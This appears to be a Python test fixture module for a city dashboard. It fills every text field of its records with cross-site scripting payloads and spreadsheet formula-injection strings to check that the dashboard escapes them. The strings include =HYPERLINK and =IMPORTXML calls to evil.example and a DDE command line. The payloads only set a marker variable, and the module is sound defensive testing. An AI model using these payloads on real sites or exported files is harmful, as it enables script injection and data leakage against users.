"""A city whose every text is an attack: scripts, formulas, markup that tries to end what stands around it."""

import types
from collections.abc import Iterator, Sequence
from dataclasses import fields, replace
from datetime import date
from decimal import Decimal
from enum import Enum
from itertools import count
from typing import Any, get_type_hints

from dashboard.domain.city.history import CityPicture
from dashboard.domain.portfolio import Portfolio, Profile
from dashboard.domain.records import (
    BudgetLine,
    BudgetShare,
    Document,
    IndicatorValue,
    ProjectIndicator,
)
from dashboard.domain.runs import SourceState
from tests.builders import portfolio
from tests.layouts.city import RICH, records, source
from tests.support.city_history import HeldHistory, rich_picture

SCRIPTS = (
    *(
        "<script>{act}</script>",
        "<ScRiPt >{act}</sCrIpT>",
        "<img src=x onerror={act}>",
        '"><svg/onload={act}>',
    ),
    *("' autofocus onfocus='{act}", '" onmouseover="{act}" x="', "javascript:{act}", "JaVa\tScript:{act}//"),
    *(
        "</title><script>{act}</script>",
        "</style><script>{act}</script>",
        "</template><script>{act}</script>",
    ),
    *("</script><script>{act}</script>", "--><script>{act}</script>", "]]><script>{act}</script>"),
    *("</textarea><script>{act}</script>", "<iframe srcdoc='<script>parent.{act}</script>'></iframe>"),
    *('<a href="javascript:{act}">x</a>', "<details open ontoggle={act}>", "<body onload={act}>"),
    *(
        "<object data='javascript:{act}'></object>",
        "<embed src='javascript:{act}'>",
        "<base href='javascript:{act}//'>",
    ),
    *(
        "<form action=javascript:{act}><input type=submit autofocus>",
        "<marquee onstart={act}>",
        "<video src onerror={act}>",
    ),
    *("<meta http-equiv=refresh content='0;url=javascript:{act}'>", "data:text/html,<script>{act}</script>"),
    *(
        "<math><mtext><table><mglyph><style><img src=x onerror={act}>",
        "<svg><animate onbegin={act} attributeName=x>",
    ),
    *(
        "<link rel=stylesheet href='javascript:{act}'>",
        "<style>*{{background:url(javascript:{act})}}</style>",
    ),
    *(
        "{{{{constructor.constructor('{act}')()}}}}",
        "${{{act}}}",
        "#{{{act}}}",
        "%{{customdata}}<img src=x onerror={act}>",
    ),
    *(
        "&lt;script&gt;{act}&lt;/script&gt;",
        "\\u003cscript\\u003e{act}",
        "%3Cscript%3E{act}",
        '";{act}//',
        "';{act}//",
    ),
    *(
        "\u202e<script>{act}</script>",
        "<!--<script>{act}</script>",
        "<![CDATA[<script>{act}</script>",
        "//evil.example/{n}",
    ),
    *(
        '"}});{act}//',
        "}}</style>{act}",
        "\\2028{act}",
        "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    ),
)
FORMULAS = (
    *('=HYPERLINK("http://evil.example/{n}","x")', "=cmd|' /C calc'!A{n}", "+1+{n}", "-2+{n}", "@SUM(1,{n})"),
    *(
        "\t=1+{n}",
        "\r=1+{n}",
        "\n=1+{n}",
        "  =1+{n}",
        "＝1+{n}",
        "＋1+{n}",
        "－1+{n}",
        "＠SUM({n})",
        '"=1+{n}',
    ),
    *('=IMPORTXML("http://evil.example/{n}")', '=DDE("x";"y";"{n}")', ";=1+{n}", ",=1+{n}", "'=1+{n}"),
)
STRUCTURE = frozenset(
    {"period", "quarter", "indicator_id", "place", "year", "fiscal_year", "unread", "budget_group"}
)
"""Fields that are no text of a person: a value that is none of theirs is set aside before it gets here."""
REFERENCES = frozenset(
    {
        "id",
        "key",
        "term_id",
        "programme_id",
        "area_id",
        "department_id",
        "project_id",
        "plan_key",
        "stage_key",
    }
    | {"line_key", "after"}
)
HOST = "city.example.test"


def payloads() -> Iterator[str]:
    """Attacks without end, no two alike; each that runs sets `window.hit` to its number."""
    forms = (*SCRIPTS, *FORMULAS)
    for number in count(1):
        form = forms[number % len(forms)]
        yield form.format(act=f"window.hit={number}", n=number)


class Poison:
    """Puts attacks in the place of texts, and remembers which; the same id gets the same attack."""

    def __init__(self, attacks: Iterator[str]) -> None:
        self._attacks = attacks
        self._of_id: dict[str, str] = {}
        self.used: list[str] = []

    def text(self) -> str:
        self.used.append(next(self._attacks))
        return self.used[-1]

    def id(self, known: str) -> str:
        if known not in self._of_id:
            self._of_id[known] = f"{known}{self.text()}"
        return self._of_id[known]

    def record(self, record: Any) -> Any:
        """The record with an attack in every field that holds, or may hold, a text."""
        hints = get_type_hints(type(record))
        spoilt: dict[str, str] = {}
        for each in fields(record):
            value, name = getattr(record, each.name), each.name
            if name in STRUCTURE or isinstance(value, Enum) or not _may_be_text(hints[name]):
                continue
            if name in REFERENCES:
                if isinstance(value, str):
                    spoilt[name] = self.id(value)
            else:
                spoilt[name] = self.text()
        return replace(record, **spoilt)


def _may_be_text(hint: Any) -> bool:
    return hint is str or (isinstance(hint, types.UnionType) and str in hint.__args__)


def hostile_portfolio(poison: Poison) -> Portfolio:
    """The invented city with everything that a screen can show, poisoned."""
    more: Sequence[Any] = (
        Document(RICH, "1", "계획서", f"https://{HOST}/1.pdf"),
        Document(RICH, "2", "함정", "x"),
        Document(RICH, "3", "사진", "x", "사진"),
        ProjectIndicator(RICH, "1", "이용객"),
        IndicatorValue(RICH, "1", 2024, 10, 3, date(2024, 12, 31)),
        BudgetLine("b1", 2024, date(2024, 12, 31), appropriated=10_000_000, spent=3_000_000),
        BudgetShare("b1", RICH, Decimal(1)),
    )
    spoilt = [poison.record(each) for each in (*records(), *more)]
    safe = [each for each in spoilt if isinstance(each, Document)][:1]
    kept = [replace(each, url=f"https://{HOST}/1.pdf") if each in safe else each for each in spoilt]
    profile = Profile(is_demo=True, city=poison.text(), headline_name=poison.text(), document_hosts=(HOST,))
    return portfolio(*kept, profile=profile)


def hostile_city(poison: Poison) -> CityPicture:
    """Messages, warnings, stations and roads whose words are attacks."""
    rich = rich_picture()
    held = rich.history
    assert isinstance(held, HeldHistory)
    events = {
        key: replace(event, text=poison.text(), subject=poison.text(), severity=poison.text())
        for key, event in held.held_events.items()
    }
    spots = {key: replace(spot, name=poison.text()) for key, spot in held.held_spots.items()}
    feeds = tuple(
        replace(each, problem=poison.text(), lost=1, lost_lines=(poison.text(),)) for each in rich.feeds
    )
    return replace(rich, history=HeldHistory(held.now, held.rows, events, spots), feeds=feeds)


def hostile_source(poison: Poison) -> SourceState:
    """A source whose label, error and findings are attacks."""
    known = source(label=poison.text(), error=poison.text())
    found = known.findings
    findings = replace(
        found,
        set_aside=tuple(replace(each, key=poison.text(), reason=poison.text()) for each in found.set_aside),
        unread=tuple(replace(each, raw=poison.text()) for each in found.unread),
        unmapped=tuple(replace(each, word=poison.text()) for each in found.unmapped),
    )
    return replace(known, findings=findings)
